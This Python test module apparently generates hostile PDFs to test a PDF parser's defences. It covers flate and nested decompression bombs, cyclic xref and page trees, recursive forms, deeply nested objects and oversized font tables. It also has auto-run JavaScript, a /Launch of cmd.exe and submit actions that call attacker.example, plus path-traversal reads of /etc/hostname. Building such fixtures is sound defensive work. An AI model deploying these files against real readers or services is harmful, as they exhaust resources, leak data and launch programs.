"""PDFs made to do harm, written byte by byte.

All of them are small, and show a page with a word on it where nothing is said against that.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from functools import cache, partial

from pdf_documents import Sheet, pdf_bytes

Make = Callable[[], bytes]
Objects = Mapping[int, bytes]
_MIB = 1024 * 1024
_HELLO = b"BT /F1 12 Tf 50 700 Td (Handlingsplan) Tj ET"
_PLAIN_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>"
_CATALOG, _PAGES = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
)
_RESOURCES = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % _RESOURCES


def stream(data: bytes, told: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (told, len(data), data)


def flated(data: bytes, told: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + told)


def pdf(changes: Objects | None = None, trailer: bytes = b"") -> bytes:
    """A page with a word, and objects in the place of its own, or beside them."""
    usual = {1: _CATALOG, 2: _PAGES, 3: _PAGE, 4: stream(_HELLO), 5: _PLAIN_FONT}
    objects = {**usual, **(changes or {})}
    data, offsets = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size, at = max(objects) + 1, len(data)
    rows = (
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
        for n in range(size)
    )
    return bytes(data) + (
        b"xref\n0 %d\n%strailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, b"".join(rows), size, trailer, at)
    )


def drawing(content: bytes, told: bytes = b"") -> bytes:
    """A page that is drawn by that."""
    return pdf({4: flated(content, told)})


# Growth ---------------------------------------------------------------------------------------


@cache
def repeated(unit: bytes, size: int) -> bytes:
    """What a text of so many bytes is deflated to, without making all of it."""
    chunk = unit * (_MIB // len(unit))
    packer, checksum = zlib.compressobj(9), 1
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    packed = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size // _MIB):
        checksum = zlib.adler32(chunk, checksum)
    return head + packed * (size // _MIB) + b"\x03\x00" + checksum.to_bytes(4, "big")


def bomb(size: int = 1024 * _MIB, unit: bytes = b"q Q ") -> bytes:
    return pdf({4: stream(repeated(unit, size), b"/Filter /FlateDecode ")})


def nested(times: int = 3) -> bytes:
    data = repeated(b"q Q ", 1024 * _MIB)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return pdf({4: stream(data, b"/Filter [%s] " % (b"/FlateDecode " * times))})


def run_lengths() -> bytes:
    """A run of 128 for each two bytes."""
    data = b"\x81 " * 1_000_000 + b"\x80"
    return pdf({4: stream(data, b"/Filter /RunLengthDecode ")})


def many_bombs() -> bytes:
    """Streams of a page that are each below what is allowed."""
    packed = stream(repeated(b"q Q ", 30 * _MIB), b"/Filter /FlateDecode ")
    more = dict.fromkeys(range(10, 60), packed)
    kids = b" ".join(b"%d 0 R" % n for n in more)
    return pdf({3: _PAGE.replace(b"4 0 R", b"[%s]" % kids), **more})


def corrupted() -> bytes:
    """A bomb whose checksum is wrong, which is then inflated byte by byte."""
    return pdf({4: stream(repeated(b"q Q ", 60 * _MIB)[:-4] + b"oops", b"/Filter /FlateDecode ")})


def predicted(kind: int = 12, columns: int = 1_000_000_000) -> bytes:
    told = b"/DecodeParms << /Predictor %d /Columns %d /Colors 1000 >> " % (kind, columns)
    return drawing(_HELLO * 100, told=told)


def faxed() -> bytes:
    told = b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1000000000 /Rows 1000000000 >> "
    return pdf({4: stream(b"\x00\x10\x01" * 10_000, told)})


# Circles --------------------------------------------------------------------------------------


def tables_in_a_circle() -> bytes:
    data = pdf(trailer=b"/Prev 0000000000")
    at = data[data.rindex(b"startxref\n") + 10 :].split()[0]
    return data.replace(b"/Prev 0000000000", b"/Prev " + at.rjust(10, b"0"))


def pages_in_a_circle() -> bytes:
    return pdf({2: b"<< /Type /Pages /Kids [3 0 R 2 0 R 7 0 R] /Count 9 >>", 7: _PAGES})


def pages_of_pages() -> bytes:
    """Ten billion pages, which are the same one."""
    levels = {
        n: b"<< /Type /Pages /Kids [%s] /Count 9 >>" % (b"%d 0 R " % (n + 1) * 10)
        for n in range(10, 20)
    }
    return pdf({2: levels[10], **levels, 20: _PAGE})


def many_pages(count: int = 1_000_000) -> bytes:
    kids = b"3 0 R " * count
    return pdf({2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)})


def many_own_pages(count: int = 60_000) -> bytes:
    pages = dict.fromkeys(range(10, 10 + count), _PAGE)
    kids = b" ".join(b"%d 0 R" % n for n in pages)
    return pdf({2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count), **pages})


def reference_in_a_circle() -> bytes:
    return pdf({4: b"7 0 R", 7: b"8 0 R", 8: b"7 0 R"})


def length_of_itself() -> bytes:
    return pdf({4: b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % _HELLO})


def objects_in_themselves() -> bytes:
    """A stream of objects that holds itself, and goes on in itself."""
    inside = flated(b"7 0 8 5 7 0 R 8 0 R", b"/Type /ObjStm /N 2 /First 8 /Extends 7 0 R ")
    table = flated(
        b"".join(bytes((2, 0, 0, 7, n % 2)) for n in range(9)),
        b"/Type /XRef /Size 9 /W [1 3 1] /Root 1 0 R ",
    )
    data = b"%PDF-1.7\n7 0 obj\n" + inside + b"\nendobj\n"
    return data + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(data))


def forms(inside: bytes, levels: int = 1) -> bytes:
    """Forms that draw others, or themselves."""
    made = {}
    for n in range(levels):
        resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + (n + 1) % levels)
        told = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources
        made[6 + n] = stream(inside, told)
    return pdf({4: stream(_HELLO + b" /X Do"), **made})


def laughing_forms() -> bytes:
    made = {}
    for n in range(6, 26):
        resources = b"/Resources << /XObject << /X %d 0 R >> /Font << /F1 5 0 R >> >>" % (n + 1)
        told = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources
        made[n] = stream(b"/X Do " * 10 if n < 25 else _HELLO, told)
    return pdf({4: stream(b"/X Do"), **made})


# Much of one thing ----------------------------------------------------------------------------


def operators(unit: bytes, size: int = 30 * _MIB) -> bytes:
    return pdf({4: stream(repeated(unit, size), b"/Filter /FlateDecode ")})


def deep(opens: bytes = b"[", count: int = 1_000_000) -> bytes:
    return pdf({7: opens * count, 3: _PAGE.replace(b"4 0 R", b"4 0 R /Rotate 7 0 R")})


def deep_content() -> bytes:
    return operators(b"[" * 64)


def font(told: bytes, **more: bytes) -> bytes:
    objects = {int(name[1:]): body for name, body in more.items()}
    shown = stream(b"BT /F1 12 Tf 50 700 Td <00410042> Tj ET")
    return pdf({4: shown, 5: b"<< /Type /Font %s >>" % told, **objects})


def to_unicode(unit: bytes, size: int = 0) -> bytes:
    begin = b"/CIDInit /ProcSet findresource begin begincmap "
    packed = (
        stream(repeated(unit, size), b"/Filter /FlateDecode ") if size else flated(begin + unit)
    )
    return font(b"/Subtype /TrueType /BaseFont /A /ToUnicode 7 0 R", _7=packed)


def composite(descendant: bytes, encoding: bytes = b"/Identity-H") -> bytes:
    whole = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) >> %s >>" % descendant
    )
    told = b"/Subtype /Type0 /BaseFont /A /Encoding %s /DescendantFonts [7 0 R]" % encoding
    return font(told, _7=whole)


def sized(box: bytes) -> bytes:
    return pdf({3: _PAGE.replace(b"[0 0 595 842]", box)})


def words(count: int, apart: int = 6) -> bytes:
    """Words on one page, in a place of their own each."""
    shown = b"".join(
        b"1 0 0 1 %d %d Tm (a%d) Tj " % (n % 97 * apart, 840 - n // 97 % 800, n)
        for n in range(count)
    )
    return drawing(b"BT /F1 4 Tf %sET" % shown)


def lattice(count: int) -> bytes:
    """Lines across and down, every one of which meets all others of the other sort."""
    across = b"".join(b"0 %.2f m 595 %.2f l S " % (n * 3.1, n * 3.1) for n in range(count))
    down = b"".join(b"%.2f 0 m %.2f 842 l S " % (n * 3.1, n * 3.1) for n in range(count))
    box = _PAGE.replace(b"[0 0 595 842]", b"[0 0 %d %d]" % (count * 4, count * 4))
    return pdf({3: box, 4: flated(_HELLO + across + down)})


def full_pages(pages: int, count: int) -> bytes:
    """Pages that are as full as a page can be of words that are no longer than a letter."""
    shown = b"".join(
        b"1 0 0 1 %d %d Tm (%c) Tj " % (n % 60 * 9, 830 - n // 60 * 6, 97 + n % 26)
        for n in range(count)
    )
    kids = range(10, 10 + pages)
    objects = dict.fromkeys(kids, _PAGE)
    told = b" ".join(b"%d 0 R" % n for n in kids)
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (told, pages)
    return pdf({2: tree, 4: flated(b"BT /F1 5 Tf %sET" % shown), **objects})


# What is to be left alone ---------------------------------------------------------------------

_ACTIONS = (
    b"<< /S /JavaScript /JS (app.launchURL('http://%s/js')) >>",
    b"<< /S /Launch /F (//%s/launch.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    b"<< /S /URI /URI (http://%s/uri) >>",
    b"<< /S /GoToR /F << /FS /URL /F (http://%s/remote.pdf) >> /D [0 /Fit] >>",
    b"<< /S /SubmitForm /F << /FS /URL /F (http://%s/form) >> >>",
    b"<< /S /ImportData /F (//%s/data.fdf) >>",
)


def actions(host: str = "attacker.example") -> bytes:
    """Everything that a PDF may ask a program to do when it is opened, or of somebody else."""
    every = [each.replace(b"%s", host.encode()) for each in _ACTIONS]
    chained = every[0]
    for each in every[1:]:
        chained = each[:-2] + b"/Next " + chained + b" >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>" % every[2]
    return pdf(
        {
            1: _CATALOG[:-2] + b"/OpenAction %s /AA << /WC %s >> >>" % (chained, every[0]),
            3: _PAGE[:-2] + b"/Annots [7 0 R] /AA << /O %s >> >>" % chained,
            7: link,
        }
    )


def from_elsewhere(place: str) -> bytes:
    """A page whose content, font and letters lie in files of the machine, or on the network."""
    file = b"<< /FS /URL /F (%s) >>" % place.encode()
    font_ = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /..#2F..#2F..#2F..%s "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A /CIDSystemInfo "
        b"<< /Registry (..) /Ordering (../../../..%s) >> >>] >>"
        % (place.replace("/", "#2F").encode(), place.encode())
    )
    content = b"<< /F %s /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream" % file
    return pdf({3: _PAGE.replace(b"4 0 R", b"[7 0 R 4 0 R]"), 5: font_, 7: content})


def locked(user: str) -> bytes:
    sheet = Sheet()
    sheet.text(50, 300, "Handlingsplan")
    return pdf_bytes(sheet, user=user)


PDFS: Mapping[str, Make] = {
    "Flate bomb of 1 GiB": bomb,
    "Flate bomb in three filters": nested,
    "Flate bombs, many": many_bombs,
    "Flate bomb that is corrupt": corrupted,
    "run lengths": run_lengths,
    "PNG predictor of 1e9 columns": predicted,
    "TIFF predictor of 1e9 columns": partial(predicted, 2),
    "fax of 1e9 columns": faxed,
    "xref tables in a circle": tables_in_a_circle,
    "pages in a circle": pages_in_a_circle,
    "pages of pages, ten billion": pages_of_pages,
    "one page a million times": many_pages,
    "60 000 pages": many_own_pages,
    "references in a circle": reference_in_a_circle,
    "a length that is itself": length_of_itself,
    "object streams in themselves": objects_in_themselves,
    "a form in itself": partial(forms, b"/X Do"),
    "forms in a circle": partial(forms, b"/X Do", 7),
    "forms of forms, 1e20": laughing_forms,
    "letters": partial(operators, b"BT /F1 9 Tf (aaaaaaaaaaaaaaaaaaaaaaaa) Tj ET "),
    "lines": partial(operators, b"0 0 m 9 9 l S "),
    "points of a curve": partial(operators, b"9 9 l "),
    "states kept": partial(operators, b"q "),
    "numbers that no operator takes": partial(operators, b"9 "),
    "names": partial(operators, b"/AAAAAA "),
    "unknown operators": partial(operators, b"zz "),
    "pictures within": partial(operators, b"BI /W 1 /H 1 ID x EI "),
    "a text that never ends": partial(operators, b"(((((((("),
    "nested arrays in content": deep_content,
    "nested arrays": deep,
    "nested dictionaries": partial(deep, b"<</A "),
    "letters' meanings, a range of 4e9": partial(
        to_unicode, b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"
    ),
    "letters' meanings, long": partial(to_unicode, b"<0041> <" + b"0042" * 32 + b"> ", 30 * _MIB),
    "widths of 1e9 letters": partial(composite, b"/W [0 1000000000 500]"),
    "widths, many": partial(composite, b"/W [0 [%s]]" % (b"1 " * 3_000_000)),
    "differences of 1e6 letters": partial(
        font, b"/Subtype /Type1 /Encoding << /Differences [0 %s] >>" % (b"/a " * 1_000_000)
    ),
    "a page of 1e300 points": partial(sized, b"[0 0 1e300 1e300]"),
    "a page without room": partial(sized, b"[0 0 0 0]"),
    "a page of no numbers": partial(sized, b"[/a (b) null 7 0 R]"),
    "140 000 words on a page": partial(words, 140_000),
    "300 000 words on a page": partial(words, 300_000),
    "lines that cross": partial(lattice, 4_000),
    "full pages": partial(full_pages, 60, 2_400),
    "scripts, programs, addresses": actions,
    "content and letters from elsewhere": partial(from_elsewhere, "/etc/hostname"),
    "locked, without password": partial(locked, ""),
    "locked, with a password": partial(locked, "hemligt"),
}
